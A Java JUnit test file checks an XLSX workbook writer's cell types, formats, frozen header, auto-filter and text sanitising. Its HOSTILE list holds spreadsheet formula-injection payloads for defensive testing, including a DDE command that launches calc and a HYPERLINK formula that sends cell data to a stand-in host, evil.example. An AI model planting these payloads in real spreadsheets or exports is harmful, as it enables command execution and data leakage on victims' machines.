package no.veikart.roadmap.workbook.rest;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNull;
import static org.junit.Assert.assertTrue;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import no.veikart.roadmap.workbook.domain.SheetData;
import no.veikart.roadmap.workbook.domain.SheetData.CellType;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.Row;
import org.junit.Test;

/** The writer: typed cells with formats, frozen header, auto-filter, and text that never becomes a formula. */
public class XlsxWorkbookTest {
    /** Formula and DDE injection payloads (OWASP CSV injection) and XML-hostile text. */
    static final List<String> HOSTILE = List.of("=1+1", "=cmd|' /C calc'!A0", "+SUM(A1:A2)", "-2+3", "@SUM(1,2)",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\t=1+1", "<f>1+1</f>", "]]><script>alert(1)</script>",
            "&amp; \"quoted\" 'single'", "ÆØÅ æøå äöü");

    @Test
    public void typesFormatsFrozenHeaderAndFilter() throws Exception {
        SheetData data = SheetData.builder().text("h.name", 20).column("h.date", CellType.DATE)
                .column("h.count", CellType.INTEGER).column("h.money", CellType.MONEY).column("h.pct", CellType.PERCENT)
                .row("Nattilsyn", LocalDate.of(2026, 3, 5), 12, new BigDecimal("1050000.50"), new BigDecimal("45.5"))
                .row(null, null, null, null, null)
                .build();
        XlsxFile file = XlsxFile.read(write(Map.of("gains", data)));
        assertEquals(List.of("Gevinster"), List.copyOf(file.sheets().keySet()));
        List<Row> rows = file.sheets().get("Gevinster");
        assertEquals("Navn", rows.get(0).getCell(0).getText());
        Row first = rows.get(1);
        assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, first.getCell(0).getType());
        Cell date = first.getCell(1);
        assertEquals(org.dhatim.fastexcel.reader.CellType.NUMBER, date.getType());
        assertEquals(LocalDate.of(2026, 3, 5), date.asDate().toLocalDate());
        assertEquals("yyyy-mm-dd", date.getDataFormatString());
        assertEquals(0, new BigDecimal("12").compareTo(first.getCell(2).asNumber()));
        assertEquals("#,##0", first.getCell(2).getDataFormatString());
        assertEquals(0, new BigDecimal("1050000.50").compareTo(first.getCell(3).asNumber()));
        assertEquals("#,##0.00", first.getCell(3).getDataFormatString());
        assertEquals(0, new BigDecimal("0.455").compareTo(first.getCell(4).asNumber()));
        assertEquals("0.0%", first.getCell(4).getDataFormatString());
        assertTrue(rows.size() < 3 || rows.get(2).getCellCount() == 0 || rows.get(2).getCell(0) == null
                || rows.get(2).getCell(0).getType() == org.dhatim.fastexcel.reader.CellType.EMPTY);
        String xml = file.worksheetXml().get(0);
        assertTrue(xml, xml.matches("(?s).*<pane [^>]*ySplit=\"1\"[^>]*state=\"frozen\".*"));
        assertTrue(xml, xml.contains("<autoFilter ref=\"A1:E3\""));
        assertTrue(xml, xml.matches("(?s).*<col min=\"1\" max=\"1\" width=\"22(\\.0+)?\".*"));
    }

    @Test
    public void hostileTextStaysText() throws Exception {
        SheetData.Builder b = SheetData.builder().text("h.name", 20);
        for (String s : HOSTILE) {
            b.row(s);
        }
        XlsxFile file = XlsxFile.read(write(Map.of("gains", b.build())));
        assertFalse("no formula element in any part", file.hasFormula());
        List<Row> rows = file.sheets().get("Gevinster");
        List<String> back = new ArrayList<>();
        for (int r = 1; r < rows.size(); r++) {
            Cell c = rows.get(r).getCell(0);
            assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, c.getType());
            assertNull(c.getFormula());
            back.add(c.getText());
        }
        assertEquals(HOSTILE, back);
    }

    @Test
    public void controlCharactersAndOverlongTextAreMadeStorable() {
        assertEquals("a b\tc\nd", XlsxWorkbook.clean("a\u0000b\tc\nd"));
        assertEquals(XlsxWorkbook.MAX_CELL_TEXT, XlsxWorkbook.clean("x".repeat(40_000)).length());
        assertEquals("a b c", XlsxWorkbook.sheetName("a:b?c"));
        assertEquals(31, XlsxWorkbook.sheetName("y".repeat(40)).length());
    }

    private static byte[] write(Map<String, SheetData> sheets) throws Exception {
        Map<String, String> texts = new LinkedHashMap<>(Map.of("gains", "Gevinster", "h.name", "Navn", "h.date", "Dato",
                "h.count", "Antall", "h.money", "Beløp", "h.pct", "Prosent"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        XlsxWorkbook.write(out, sheets, texts::get, texts::get);
        return out.toByteArray();
    }
}
